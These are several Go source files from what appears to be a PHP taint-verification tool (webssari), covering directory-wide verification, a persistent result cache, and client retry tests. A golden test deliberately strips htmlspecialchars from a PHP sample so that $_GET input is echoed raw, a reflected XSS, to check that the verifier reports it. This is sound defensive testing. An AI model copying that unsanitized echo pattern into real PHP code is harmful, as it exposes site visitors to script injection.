// into the report — and delivered to the observer — without consuming a
// worker or being subject to the dispatch deadline.
func verifyDirFiles(ctx context.Context, dir string, snap incremental.Snapshot, walkFails []FileFailure, served map[string]*Report, opts []Option) (*ProjectReport, error) {
	pr := &ProjectReport{Dir: dir}
	pr.Failures = append(pr.Failures, walkFails...)
	phpFiles := make([]string, len(snap.Files))
	for i, fm := range snap.Files {
		phpFiles[i] = fm.Path
	}

	parallelism := 0 // NewPool treats <= 0 as GOMAXPROCS
	var tel *telemetry.Telemetry
	hasStore := false
	var observer func(*Report)
	verify := VerifyContext
	if cfg, err := buildConfig(opts); err == nil {
		if cfg.parallelism > 0 {
			parallelism = cfg.parallelism
		}
		tel = cfg.telemetry
		hasStore = cfg.resultStore != nil
		observer = cfg.observer
		if cfg.fileVerifier != nil {
			// Cluster dispatch seam: each file's verification is delegated
			// (typically to a remote worker) under the same per-file options
			// a local worker would receive; see WithFileVerifier's contract.
			verify = cfg.fileVerifier
		}
	}
	pool := core.NewPool(parallelism)
	ctx = telemetry.WithTelemetry(ctx, tel)
	if tel != nil {
		pool.Instrument(tel.Metrics)
	}
	_, dsp := telemetry.StartSpan(ctx, "verify_dir", "dir", dir)
	defer dsp.End()
	cacheBefore := defaultCompileCache.StatsDetail()

	// Workers write only their own index; pr is assembled afterwards in
	// sorted file order so the report is independent of scheduling.
	reps := make([]*Report, len(phpFiles))
	fails := make([]*FileFailure, len(phpFiles))
	for i, file := range phpFiles {
		if rep, ok := served[file]; ok {
			reps[i] = rep
			if observer != nil {
				observer(rep)
			}
		}
	}
	var wg sync.WaitGroup
	for i, file := range phpFiles {
		if reps[i] != nil {
			continue // served from the incremental plan
		}
		if ctx.Err() != nil || pool.Acquire(ctx) != nil {
			// Deadline expired before this file was dispatched: everything
			// not yet started degrades to a recorded failure, and workers
			// already running wind down through their own ctx checks — the
			// pool can never deadlock on an expired context.
			for j := i; j < len(phpFiles); j++ {
				if reps[j] != nil {
					continue
				}
				fails[j] = &FileFailure{
					File: phpFiles[j], Stage: "deadline", Cause: ctx.Err().Error(),
				}
			}
			break
		}
		wg.Add(1)
		go func(i int, file string) {
			defer wg.Done()
			defer pool.Release()
			src, err := os.ReadFile(file)
			if err != nil {
				fails[i] = &FileFailure{File: file, Stage: "read", Cause: err.Error()}
				return
			}
			// This worker holds one pool slot; withWorkers lets the file's
			// assertion fan-out borrow further free slots (non-blocking).
			fileOpts := append([]Option{WithDir(dir), withWorkers(pool)}, opts...)
			rep, err := verify(ctx, src, file, fileOpts...)
			if err != nil {
				stage := "analysis"
				var ee *EngineError
				if errors.As(err, &ee) {
					stage = ee.Stage
				}
				fails[i] = &FileFailure{File: file, Stage: stage, Cause: err.Error()}
				return
			}
			reps[i] = rep
			if observer != nil {
				// Streaming hook: deliver the report the moment it exists,
				// in completion (not sorted) order, from the worker's own
				// goroutine — the observer must be concurrency-safe.
				observer(rep)
			}
		}(i, file)
	}
	wg.Wait()

	prof := &RunProfile{}
	for i := range phpFiles {
		if fail := fails[i]; fail != nil {
			pr.Failures = append(pr.Failures, *fail)
			continue
		}
		rep := reps[i]
		if rep == nil {
			continue
		}
		pr.Files = append(pr.Files, rep)
		pr.Symptoms += rep.Symptoms
		pr.Groups += rep.Groups
		pr.CompileWall += rep.CompileTime
		pr.SolveWall += rep.SolveTime
		prof.Merge(rep.Profile)
		if rep.StoreHit {
			pr.StoreHits++
		} else {
			if hasStore {
				pr.StoreMisses++
			}
			if rep.CacheHit {
				pr.CacheHits++
			} else {
				pr.CacheMisses++
			}
		}
		if rep.Verdict == VerdictUnsafe {
			pr.VulnerableFiles++
		} else if rep.Incomplete {
			pr.IncompleteFiles++
		}
	}

	// Project-level sections: the run's slice of the process-wide compile
	// cache (deltas over this call; other concurrent runs in the same
	// process bleed into the eviction/stale counts) and the pool's usage.
	cacheAfter := defaultCompileCache.StatsDetail()
	prof.Cache = &telemetry.CacheProfile{
		Hits:      cacheAfter.Hits - cacheBefore.Hits,
		Misses:    cacheAfter.Misses - cacheBefore.Misses,
		Evictions: cacheAfter.Evictions - cacheBefore.Evictions,
		Stale:     cacheAfter.Stale - cacheBefore.Stale,
		Entries:   cacheAfter.Entries,
	}
	prof.Pool = pool.Snapshot()
	pr.Profile = prof
	if tel != nil && tel.Metrics != nil {
		m := tel.Metrics
		m.Counter(telemetry.MetricCacheHits).Add(prof.Cache.Hits)
		m.Counter(telemetry.MetricCacheMisses).Add(prof.Cache.Misses)
		m.Counter(telemetry.MetricCacheEvictions).Add(prof.Cache.Evictions)
		m.Counter(telemetry.MetricCacheStale).Add(prof.Cache.Stale)
		m.Gauge(telemetry.MetricCacheEntries).Set(int64(prof.Cache.Entries))
	}
	return pr, nil
}
