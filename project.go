package webssari

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// FileFailure records one file whose analysis could not produce a report
// at all. Files that produced a degraded report (deadline, resource
// ceiling) are not failures — they appear in Files with
// VerdictIncomplete.
type FileFailure struct {
	// File is the entry file that failed.
	File string `json:"file"`
	// Stage names the pipeline stage that failed ("read", "walk",
	// "deadline", or an EngineError stage).
	Stage string `json:"stage"`
	// Cause is the human-readable failure cause.
	Cause string `json:"cause"`
}

// ProjectReport aggregates the verification of a whole PHP project — the
// unit the paper's §5 evaluation counts by.
type ProjectReport struct {
	// Dir is the project root.
	Dir string `json:"dir"`
	// Files holds one report per PHP entry file, sorted by path.
	Files []*Report `json:"files"`
	// Symptoms is the project-wide TS error count (Figure 10 "TS").
	Symptoms int `json:"symptoms"`
	// Groups is the project-wide error-introduction count (Figure 10 "BMC").
	Groups int `json:"groups"`
	// VulnerableFiles counts files with at least one finding.
	VulnerableFiles int `json:"vulnerable_files"`
	// IncompleteFiles counts files whose report is degraded (no finding,
	// but no Safe proof either).
	IncompleteFiles int `json:"incomplete_files"`
	// Failures records files whose analysis failed outright; the
	// remaining files are still verified and reported.
	Failures []FileFailure `json:"failures,omitempty"`
}

// Safe reports whether every file verified safe: no vulnerable files, no
// incomplete files, and no failures. A project with unverified parts is
// never Safe.
func (p *ProjectReport) Safe() bool {
	return p.VulnerableFiles == 0 && p.IncompleteFiles == 0 && len(p.Failures) == 0
}

// Verdict classifies the project outcome: VerdictUnsafe when any file has
// a finding; otherwise VerdictIncomplete when any file degraded or
// failed; otherwise VerdictSafe.
func (p *ProjectReport) Verdict() string {
	switch {
	case p.VulnerableFiles > 0:
		return VerdictUnsafe
	case p.IncompleteFiles > 0 || len(p.Failures) > 0:
		return VerdictIncomplete
	default:
		return VerdictSafe
	}
}

// VerifyDir verifies every .php file under dir as an entry file, resolving
// includes relative to each file (falling back to dir), and aggregates the
// per-project counts the paper's evaluation reports.
func VerifyDir(dir string, opts ...Option) (*ProjectReport, error) {
	return VerifyDirContext(context.Background(), dir, opts...)
}

// VerifyDirContext is VerifyDir under a context. Analysis faults are
// isolated per file: an unreadable or pathological file is recorded in
// ProjectReport.Failures and every other file is still verified. The
// only non-nil error is failing to walk the root directory itself. A
// WithDeadline budget applies to each file separately; ctx cancellation
// stops the walk and records the unvisited files as failures.
func VerifyDirContext(ctx context.Context, dir string, opts ...Option) (*ProjectReport, error) {
	pr := &ProjectReport{Dir: dir}
	var phpFiles []string
	rootSeen := false
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			if !rootSeen {
				return err // the root itself is unwalkable: fatal
			}
			pr.Failures = append(pr.Failures, FileFailure{
				File: path, Stage: "walk", Cause: err.Error(),
			})
			return nil
		}
		rootSeen = true
		if !d.IsDir() && strings.HasSuffix(strings.ToLower(d.Name()), ".php") {
			phpFiles = append(phpFiles, path)
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("webssari: walking %s: %w", dir, err)
	}
	sort.Strings(phpFiles)

	for i, file := range phpFiles {
		if ctx.Err() != nil {
			for _, rest := range phpFiles[i:] {
				pr.Failures = append(pr.Failures, FileFailure{
					File: rest, Stage: "deadline", Cause: ctx.Err().Error(),
				})
			}
			break
		}
		fileOpts := append([]Option{WithDir(dir)}, opts...)
		src, err := os.ReadFile(file)
		if err != nil {
			pr.Failures = append(pr.Failures, FileFailure{
				File: file, Stage: "read", Cause: err.Error(),
			})
			continue
		}
		rep, err := VerifyContext(ctx, src, file, fileOpts...)
		if err != nil {
			stage := "analysis"
			var ee *EngineError
			if errors.As(err, &ee) {
				stage = ee.Stage
			}
			pr.Failures = append(pr.Failures, FileFailure{
				File: file, Stage: stage, Cause: err.Error(),
			})
			continue
		}
		pr.Files = append(pr.Files, rep)
		pr.Symptoms += rep.Symptoms
		pr.Groups += rep.Groups
		if rep.Verdict == VerdictUnsafe {
			pr.VulnerableFiles++
		} else if rep.Incomplete {
			pr.IncompleteFiles++
		}
	}
	return pr, nil
}
