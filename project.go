package webssari

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// ProjectReport aggregates the verification of a whole PHP project — the
// unit the paper's §5 evaluation counts by.
type ProjectReport struct {
	// Dir is the project root.
	Dir string `json:"dir"`
	// Files holds one report per PHP entry file, sorted by path.
	Files []*Report `json:"files"`
	// Symptoms is the project-wide TS error count (Figure 10 "TS").
	Symptoms int `json:"symptoms"`
	// Groups is the project-wide error-introduction count (Figure 10 "BMC").
	Groups int `json:"groups"`
	// VulnerableFiles counts files with at least one finding.
	VulnerableFiles int `json:"vulnerable_files"`
}

// Safe reports whether every file verified safe.
func (p *ProjectReport) Safe() bool { return p.VulnerableFiles == 0 }

// VerifyDir verifies every .php file under dir as an entry file, resolving
// includes relative to each file (falling back to dir), and aggregates the
// per-project counts the paper's evaluation reports.
func VerifyDir(dir string, opts ...Option) (*ProjectReport, error) {
	var phpFiles []string
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() && strings.HasSuffix(strings.ToLower(d.Name()), ".php") {
			phpFiles = append(phpFiles, path)
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("webssari: walking %s: %w", dir, err)
	}
	sort.Strings(phpFiles)

	pr := &ProjectReport{Dir: dir}
	for _, file := range phpFiles {
		fileOpts := append([]Option{WithDir(dir)}, opts...)
		src, err := os.ReadFile(file)
		if err != nil {
			return nil, fmt.Errorf("webssari: %s: %w", file, err)
		}
		rep, err := Verify(src, file, fileOpts...)
		if err != nil {
			return nil, err
		}
		pr.Files = append(pr.Files, rep)
		pr.Symptoms += rep.Symptoms
		pr.Groups += rep.Groups
		if !rep.Safe {
			pr.VulnerableFiles++
		}
	}
	return pr, nil
}
