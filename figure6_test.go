package webssari_test

// Golden test for the paper's Figure 6: the complete translation chain
// from PHP source through the filtered abstract interpretation, the
// single-assignment renaming, and the per-assertion constraints. Every
// stage's rendering is pinned, mirroring the columns of the figure.

import (
	"strings"
	"testing"

	"webssari"
	"webssari/internal/constraint"
	"webssari/internal/flow"
	"webssari/internal/prelude"
	"webssari/internal/rename"
)

// figure6PHP is the paper's example program (first column of Figure 6).
const figure6PHP = `<?php
if ($Nick) {
    $tmp = $_GET["nick"];
    echo(htmlspecialchars($tmp));
} else {
    $tmp = "You are the " . $GuestCount . " guest";
    echo($tmp);
}
?>`

func TestFigure6Translation(t *testing.T) {
	prog, errs := flow.BuildSource("fig6.php", []byte(figure6PHP),
		flow.Options{Prelude: prelude.Default()})
	if len(errs) != 0 {
		t.Fatalf("build: %v", errs)
	}

	// Column 3: the abstract interpretation. The then-branch assigns
	// $_GET's (tainted) type to tmp and asserts the sanitizer's constant;
	// the else-branch joins untainted literals with $GuestCount and
	// asserts tmp. Branch conditions are nondeterministic booleans.
	wantAI := `AI(fig6.php) over {untainted ≤ tainted}
if b0 then
  t($tmp) = t($_GET);
  assert(untainted<htmlspecialchars> < tainted);  // echo at fig6.php:4:5
else
  t($tmp) = (untainted ⊔ t($GuestCount) ⊔ untainted);
  assert(t($tmp) < tainted);  // echo at fig6.php:7:5
endif
`
	if got := prog.String(); got != wantAI {
		t.Errorf("AI stage:\n got: %q\nwant: %q", got, wantAI)
	}
	if prog.Diameter() != 3 || prog.Branches != 1 {
		t.Errorf("diameter=%d branches=%d, want 3/1", prog.Diameter(), prog.Branches)
	}

	// Column 4: the renaming ρ — each assignment to tmp gets a fresh
	// index; reads refer to the current index (the else-arm's tmp@2 read
	// follows the then-arm's tmp@1 in the global numbering, exactly the
	// φ-free scheme of Clarke et al. the paper adopts).
	ren := rename.Rename(prog)
	wantRen := `ρ(AI(fig6.php))
if b0 then
  t(tmp@1) = t(_GET@0);
  assert_0(untainted<htmlspecialchars> < tainted);
else
  t(tmp@2) = (untainted ⊔ t(GuestCount@0) ⊔ untainted);
  assert_1(t(tmp@2) < tainted);
endif
`
	if got := ren.String(); got != wantRen {
		t.Errorf("renamed stage:\n got: %q\nwant: %q", got, wantRen)
	}

	// Column 5: the per-assertion constraints of Figure 5 — guarded ITEs
	// t(vα) = g ? e : t(vα−1), with the branch literal as guard. These are
	// exactly the B_k/B_{k+1} building blocks of Figure 6's last column.
	sys := constraint.Build(ren)
	wantCons := `constraints for fig6.php
  t(tmp@1) = b0 ? t(_GET@0) : t(tmp@0)
  t(tmp@2) = ¬b0 ? (untainted ⊔ t(GuestCount@0) ⊔ untainted) : t(tmp@1)
  assert_0: b0 ⇒ (untainted<htmlspecialchars> < τr)
  assert_1: ¬b0 ⇒ (t(tmp@2) < τr)
`
	if got := sys.String(); got != wantCons {
		t.Errorf("constraint stage:\n got: %q\nwant: %q", got, wantCons)
	}
}

func TestFigure6Verdicts(t *testing.T) {
	// Both assertions hold: the then-branch is sanitized, the else-branch
	// uses trusted data only.
	rep, err := verifyFig6(figure6PHP)
	if err != nil {
		t.Fatal(err)
	}
	if !rep {
		t.Fatalf("Figure 6 program must verify safe")
	}

	// Dropping the sanitizer makes the then-branch a genuine XSS, caught
	// with the b0-branch counterexample (tested in internal/core as well).
	vulnerable := strings.Replace(figure6PHP, "htmlspecialchars($tmp)", "$tmp", 1)
	rep, err = verifyFig6(vulnerable)
	if err != nil {
		t.Fatal(err)
	}
	if rep {
		t.Fatalf("sanitizer-free variant must be unsafe")
	}
}

func verifyFig6(src string) (safe bool, err error) {
	rep, err := webssari.Verify([]byte(src), "fig6.php")
	if err != nil {
		return false, err
	}
	return rep.Safe, nil
}
