package webssari

// This file wires the on-disk result store (internal/store) into the
// verification entry points as a second cache tier. Tier 1 is the
// in-process compile cache (compiled Programs, gone at exit); tier 2
// persists finished Reports across process restarts, keyed by a content
// fingerprint of everything that shapes a verdict: the source bytes,
// the trust environment (prelude fingerprint), and every model- or
// solver-shaping option. Re-verifying an unchanged file under an
// unchanged configuration is a disk read — no parse, no SAT.
//
// Soundness rules:
//
//   - Only complete reports are persisted. A degraded run (deadline,
//     conflict budget, resource ceiling, parse errors) depends on
//     transient pressure; caching it would pin incompleteness.
//   - A stored report remembers the include files spliced into its
//     model (path → hash, plus probed-but-missing candidates). A hit is
//     revalidated against the current loader before being served; an
//     edited or newly appeared include invalidates the entry.
//   - Corruption, truncation, and schema-version changes degrade to a
//     miss inside internal/store — a damaged store is a cold cache,
//     never a wrong answer.

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"sort"

	"webssari/internal/core"
	"webssari/internal/store"
	"webssari/internal/telemetry"
)

// ResultStore is the persistent, content-addressed result store
// (tier 2). Open one with OpenStore and attach it with WithStore; one
// ResultStore is safe for concurrent use across a whole daemon.
type ResultStore = store.Store

// OpenStore opens (creating if needed) a result store rooted at dir,
// retaining at most maxBytes of blobs (0 = store.DefaultMaxBytes,
// negative = unbounded).
func OpenStore(dir string, maxBytes int64) (*ResultStore, error) {
	return store.Open(dir, store.Options{MaxBytes: maxBytes})
}

// WithStore attaches a persistent result store: Verify (and VerifyDir,
// which funnels through it) first consults the store and, on a valid
// hit, returns the persisted report without compiling or solving;
// complete fresh reports are written back. Patch and VerifyToHTML
// bypass tier 2 — they need the compiled artifacts, not just the
// verdict — but still benefit from the tier-1 compile cache.
func WithStore(s *ResultStore) Option {
	return func(c *config) error {
		if s != nil {
			c.resultStore = s
		}
		return nil
	}
}

// StoreBackend is the abstract result-store surface (tier 2): the local
// on-disk *ResultStore implements it, and so can a shared or remote
// backend — the cluster's workers attach one pointing at the
// coordinator's store so any worker can serve any cached verdict.
type StoreBackend = store.Backend

// WithStoreBackend attaches an arbitrary result-store backend. It is
// WithStore generalized: everything said there — soundness rules,
// include revalidation, degrade-to-miss on damage — holds for any
// backend, which must additionally tolerate an unreachable remote by
// degrading to a cold cache.
func WithStoreBackend(b StoreBackend) Option {
	return func(c *config) error {
		if b != nil {
			c.resultStore = b
		}
		return nil
	}
}

// FileVerifier replaces the engine invocation for each entry file of a
// project run (VerifyDir/VerifyDirContext): instead of verifying src in
// process, the project walker calls fn with exactly the per-file options
// a local worker would use. It is the cluster dispatch seam — the
// coordinator's implementation ships the source to a worker daemon and
// decodes the returned report — and the contract is strict: fn must
// return a report identical to what VerifyContext(ctx, src, name,
// opts...) would produce, or an equivalent error, so project verdicts
// stay byte-identical (profiles aside) however files are placed. fn is
// invoked from multiple worker goroutines concurrently.
type FileVerifier func(ctx context.Context, src []byte, name string, opts ...Option) (*Report, error)

// WithFileVerifier installs a FileVerifier for project runs. Single-file
// entry points (Verify, Patch) ignore it — they are already the unit the
// verifier would dispatch.
func WithFileVerifier(fn FileVerifier) Option {
	return func(c *config) error {
		c.fileVerifier = fn
		return nil
	}
}

// WithFileObserver registers a callback invoked with each file's
// finished report during VerifyDir, in completion order, as soon as the
// file's verification ends — the hook behind NDJSON streaming in the
// xbmc CLI and the webssarid service. The callback may be invoked from
// multiple worker goroutines concurrently; it must be safe for that.
// Failed files (ProjectReport.Failures) do not produce a call.
func WithFileObserver(fn func(*Report)) Option {
	return func(c *config) error {
		c.observer = fn
		return nil
	}
}

// LearntNamespace is the result-store namespace warm-started shared-mode
// runs (SolverConfig.WarmStart) keep learnt-clause blobs under. Like the
// dependency-graph namespace it shares the store's crash-safe framing,
// GC budget, and telemetry but can never collide with verification
// results — and, critically, learnt blobs never participate in result
// keys: warm starting is verdict-neutral and must not fragment the
// result cache.
const LearntNamespace = "learnt"

// learntKey addresses one program's learnt-clause blob: the entry name,
// the source content hash, and the fingerprint of every verdict-shaping
// option. The key is best-effort addressing only — the blob itself
// embeds a hash of the exact CNF it was learnt from (see sat.
// EncodeLearntBlob), and the solver rejects any blob whose hash does not
// match the formula it is about to solve, so a stale or colliding key
// degrades to a cold start, never to wrong clauses.
func learntKey(name string, src []byte, cfg *config) string {
	sum := sha256.Sum256(src)
	return store.Key("webssari-learnt-v1", name, hex.EncodeToString(sum[:]), cfg.configFingerprint())
}

// wireWarmStart attaches the learnt-clause import/export endpoints to an
// engine options value. Inert unless the configuration asks for warm
// starting (shared mode + WarmStart) and carries a store; store read and
// write failures both degrade to a cold start.
func (c *config) wireWarmStart(eopts *core.Options, name string, src []byte) {
	if !c.warmStart || c.solverMode != SolverShared || c.resultStore == nil {
		return
	}
	ns := store.NamespaceOf(c.resultStore, LearntNamespace)
	key := learntKey(name, src, c)
	if blob, ok := ns.Get(key); ok {
		eopts.LearntBlob = blob
	}
	eopts.LearntSink = func(blob []byte) { _ = ns.Put(key, blob) }
}

// resultSchema versions the envelope layout inside store blobs,
// independent of the store's own framing version. Bump it when the
// Report JSON shape changes incompatibly.
const resultSchema = 1

// storedEnvelope is the persisted form of one verification result: the
// report plus what is needed to revalidate and re-render it.
type storedEnvelope struct {
	Schema int    `json:"schema"`
	Name   string `json:"name"`
	// IncludeHashes and IncludeMisses snapshot the include resolution
	// the model was built under (see core.CompileCache revalidation).
	IncludeHashes map[string]string `json:"include_hashes,omitempty"`
	IncludeMisses []string          `json:"include_misses,omitempty"`
	// Funcs maps function key → IR fingerprint of the entry file's
	// lowered unit (see ir.Unit.Fingerprints); SafeAsserts lists the
	// check fingerprints proved safe by this result. Both feed the
	// incremental planner's function-level delta.
	Funcs       map[string]string `json:"funcs,omitempty"`
	SafeAsserts []string          `json:"safe_asserts,omitempty"`
	// Text is the rendered human-readable report, persisted separately
	// because Report excludes it from JSON.
	Text   string  `json:"text"`
	Report *Report `json:"report"`
}

// resultKey fingerprints one verification request: every input that can
// change the produced Report — the entry name, the source bytes, and
// the verdict-shaping configuration (configFingerprint, shared with the
// dependency-graph address). Deadlines, parallelism, and telemetry are
// deliberately excluded — they change whether a run completes, not what
// a complete run concludes, and incomplete runs are never persisted.
func resultKey(name string, src []byte, cfg *config) string {
	return store.Key(
		"webssari-result-v1",
		name,
		string(src),
		cfg.configFingerprint(),
	)
}

// storeGet consults tier 2 for a finished report. A hit is decoded and
// revalidated (envelope schema, include snapshot); any failure reads as
// a miss. The returned report is marked StoreHit with a minimal fresh
// profile — the persisted run's timings belong to the run that paid
// them. The decoded envelope rides along so callers can record the
// persisted include resolution into the dependency graph.
func storeGet(ctx context.Context, cfg *config, name, key string) (*Report, *storedEnvelope, bool) {
	_, sp := telemetry.StartSpan(ctx, "store_get", "file", name)
	defer sp.End()
	env, ok := storeDecode(cfg, key)
	if !ok {
		return nil, nil, false
	}
	if !storedIncludesCurrent(env, cfg) {
		cfg.resultStore.Invalidate(key)
		return nil, nil, false
	}
	return serveStored(env), env, true
}

// storeGetTrusted serves a persisted report by key without revalidating
// its include snapshot — the incremental planner's reuse path, where the
// delta plan has already proved (via the dependency graph's fingerprints)
// that neither the entry file nor any spliced include changed. This is
// what makes an unchanged subtree cost one disk read per file instead of
// one read per include edge.
func storeGetTrusted(ctx context.Context, cfg *config, name, key string) (*Report, *storedEnvelope, bool) {
	_, sp := telemetry.StartSpan(ctx, "store_get", "file", name)
	defer sp.End()
	env, ok := storeDecode(cfg, key)
	if !ok {
		return nil, nil, false
	}
	return serveStored(env), env, true
}

// storeDecode fetches and decodes one envelope; undecodable or
// foreign-schema blobs are invalidated and read as a miss.
func storeDecode(cfg *config, key string) (*storedEnvelope, bool) {
	payload, ok := cfg.resultStore.Get(key)
	if !ok {
		return nil, false
	}
	var env storedEnvelope
	if err := json.Unmarshal(payload, &env); err != nil || env.Schema != resultSchema || env.Report == nil {
		cfg.resultStore.Invalidate(key)
		return nil, false
	}
	return &env, true
}

// serveStored prepares a decoded envelope's report for return: rendered
// text restored, StoreHit marked, and a minimal fresh profile.
func serveStored(env *storedEnvelope) *Report {
	rep := env.Report
	rep.Text = env.Text
	rep.StoreHit = true
	rep.Profile = &RunProfile{StoreHit: true}
	return rep
}

// storedIncludesCurrent revalidates a persisted report's include
// snapshot against the current loader, mirroring the compile cache's
// includesCurrent: every spliced include must still hash the same and
// every probed-but-missing candidate must still be missing.
func storedIncludesCurrent(env *storedEnvelope, cfg *config) bool {
	if len(env.IncludeHashes) == 0 && len(env.IncludeMisses) == 0 {
		return true
	}
	if cfg.loader == nil {
		return false
	}
	for path, want := range env.IncludeHashes {
		data, err := cfg.loader(path)
		if err != nil {
			return false
		}
		sum := sha256.Sum256(data)
		if hex.EncodeToString(sum[:]) != want {
			return false
		}
	}
	for _, cand := range env.IncludeMisses {
		if _, err := cfg.loader(cand); err == nil {
			return false
		}
	}
	return true
}

// depRecord is what one file's verification teaches the dependency
// graph: the entry's content hash, the store key its report lives
// under, and the include resolution its model was built from.
type depRecord struct {
	Name       string
	SourceHash string
	ResultKey  string
	// Includes maps resolved include path → hex content hash; Misses
	// lists probed-but-absent candidates (sorted).
	Includes map[string]string
	Misses   []string
	// Funcs maps function key → IR fingerprint of the entry's lowered
	// unit; SafeAsserts lists check fingerprints this run proved safe.
	// Together they let a later run skip the SAT search for assertions
	// whose constraint slice an edit did not touch.
	Funcs       map[string]string
	SafeAsserts []string
}

// priorHint is what the incremental planner knows about a dirty file
// from its previous verification: the function fingerprints of its old
// IR and the check fingerprints proved safe then. runAnalysis seeds
// Options.KnownSafeChecks from it when at least one function fingerprint
// still matches (absent or fully changed fingerprints fall back to
// whole-file re-verification).
type priorHint struct {
	Funcs       map[string]string
	SafeAsserts []string
}

// knownSafeChecks decides whether the hint applies to the freshly
// compiled Program and, if so, returns the prior safe set for
// Options.KnownSafeChecks. The gate is the IR's function fingerprints:
// at least one function must hash identically to the prior unit —
// otherwise (fingerprints absent, or every function changed) the edit's
// blast radius is unknown and the file re-verifies in full. The check
// fingerprints themselves remain the per-assertion soundness test; the
// gate only avoids hashing constraint slices that cannot match.
func (h priorHint) knownSafeChecks(prog *core.Program) map[string]bool {
	if len(h.SafeAsserts) == 0 || len(h.Funcs) == 0 || prog.Unit == nil {
		return nil
	}
	cur := prog.Unit.Fingerprints()
	shared := false
	for key, fp := range h.Funcs {
		if cur[key] == fp {
			shared = true
			break
		}
	}
	if !shared {
		return nil
	}
	known := make(map[string]bool, len(h.SafeAsserts))
	for _, fp := range h.SafeAsserts {
		known[fp] = true
	}
	return known
}

// withPriorHints registers per-file prior verification hints for a
// project run (set internally by incremental VerifyDir).
func withPriorHints(hints map[string]priorHint) Option {
	return func(c *config) error {
		c.priorHints = hints
		return nil
	}
}

// safeAssertFPs extracts the check fingerprints of every assertion the
// result proved safe. Incomplete results yield nothing: their formulas
// may reflect a truncated model, and the incremental reuse path must
// only ever carry over verdicts a complete run stood behind.
func safeAssertFPs(res *core.Result) []string {
	if res == nil || res.System == nil || res.Incomplete() {
		return nil
	}
	var out []string
	for i, ar := range res.PerAssert {
		if !ar.Unknown && len(ar.Counterexamples) == 0 {
			out = append(out, core.CheckFingerprint(res.System, i))
		}
	}
	return out
}

// recordDeps reports one finished file to the configured dependency
// recorder (set internally by incremental VerifyDir). Exactly one of
// res (fresh verification) and env (store hit) carries the include
// resolution. No-op without a recorder.
func (c *config) recordDeps(name string, src []byte, key string, res *core.Result, env *storedEnvelope) {
	if c.depRecorder == nil {
		return
	}
	sum := sha256.Sum256(src)
	r := depRecord{Name: name, SourceHash: hex.EncodeToString(sum[:]), ResultKey: key}
	switch {
	case res != nil && res.AI != nil:
		if len(res.AI.IncludeHashes) > 0 {
			r.Includes = make(map[string]string, len(res.AI.IncludeHashes))
			for path, h := range res.AI.IncludeHashes {
				r.Includes[path] = h
			}
		}
		for cand := range res.AI.IncludeMisses {
			r.Misses = append(r.Misses, cand)
		}
		sort.Strings(r.Misses)
		if res.Unit != nil {
			r.Funcs = res.Unit.Fingerprints()
		}
		r.SafeAsserts = safeAssertFPs(res)
	case env != nil:
		if len(env.IncludeHashes) > 0 {
			r.Includes = make(map[string]string, len(env.IncludeHashes))
			for path, h := range env.IncludeHashes {
				r.Includes[path] = h
			}
		}
		r.Misses = append([]string(nil), env.IncludeMisses...)
		r.Funcs = env.Funcs
		r.SafeAsserts = append([]string(nil), env.SafeAsserts...)
	}
	c.depRecorder(r)
}

// withDepRecorder registers the internal callback incremental VerifyDir
// uses to collect each verified file's include resolution and store key.
// Invoked from worker goroutines; the callback must be concurrency-safe.
func withDepRecorder(fn func(depRecord)) Option {
	return func(c *config) error {
		c.depRecorder = fn
		return nil
	}
}

// storePut persists a finished report. Incomplete reports are skipped
// (their shape depends on transient pressure); store write failures are
// deliberately swallowed — a full or read-only disk degrades the cache,
// not the verification.
func storePut(ctx context.Context, cfg *config, name, key string, rep *Report, res *core.Result) {
	if rep.Incomplete {
		return
	}
	_, sp := telemetry.StartSpan(ctx, "store_put", "file", name)
	defer sp.End()
	env := storedEnvelope{
		Schema: resultSchema,
		Name:   name,
		Text:   rep.Text,
		Report: rep,
	}
	if res != nil && res.AI != nil {
		if len(res.AI.IncludeHashes) > 0 {
			env.IncludeHashes = make(map[string]string, len(res.AI.IncludeHashes))
			for path, sum := range res.AI.IncludeHashes {
				env.IncludeHashes[path] = sum
			}
		}
		for cand := range res.AI.IncludeMisses {
			env.IncludeMisses = append(env.IncludeMisses, cand)
		}
		sort.Strings(env.IncludeMisses)
	}
	if res != nil {
		if res.Unit != nil {
			env.Funcs = res.Unit.Fingerprints()
		}
		env.SafeAsserts = safeAssertFPs(res)
	}
	// The profile is per-run, not per-content: strip it from the blob so
	// identical verdicts persist identically (and blobs stay small).
	saved := rep.Profile
	rep.Profile = nil
	payload, err := json.Marshal(&env)
	rep.Profile = saved
	if err != nil {
		return
	}
	_ = cfg.resultStore.Put(key, payload)
}
