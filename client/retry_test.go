package client

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"
)

// flakyServer answers the first `failures` requests with `code` (plus an
// optional Retry-After header), then succeeds with an empty Health body.
func flakyServer(t *testing.T, failures int, code int, retryAfter string) (*httptest.Server, *atomic.Int32) {
	t.Helper()
	var requests atomic.Int32
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n := requests.Add(1)
		if int(n) <= failures {
			if retryAfter != "" {
				w.Header().Set("Retry-After", retryAfter)
			}
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(code)
			fmt.Fprintf(w, `{"schema":"v1","error":"try later"}`)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"schema":"v1","status":"ok","queued":0,"inflight":0}`)
	}))
	t.Cleanup(ts.Close)
	return ts, &requests
}

var testPolicy = RetryPolicy{MaxRetries: 4, BaseDelay: time.Millisecond, MaxDelay: 5 * time.Millisecond}

func TestRetryPolicyRidesOutQueueFull(t *testing.T) {
	ts, requests := flakyServer(t, 2, http.StatusTooManyRequests, "0")
	c := New(ts.URL, WithRetryPolicy(testPolicy))
	h, err := c.Health(context.Background())
	if err != nil {
		t.Fatalf("health after transient 429s: %v", err)
	}
	if h.Status != "ok" {
		t.Fatalf("health status = %q; want ok", h.Status)
	}
	if n := requests.Load(); n != 3 {
		t.Fatalf("server saw %d requests; want 3 (two 429s, one success)", n)
	}
}
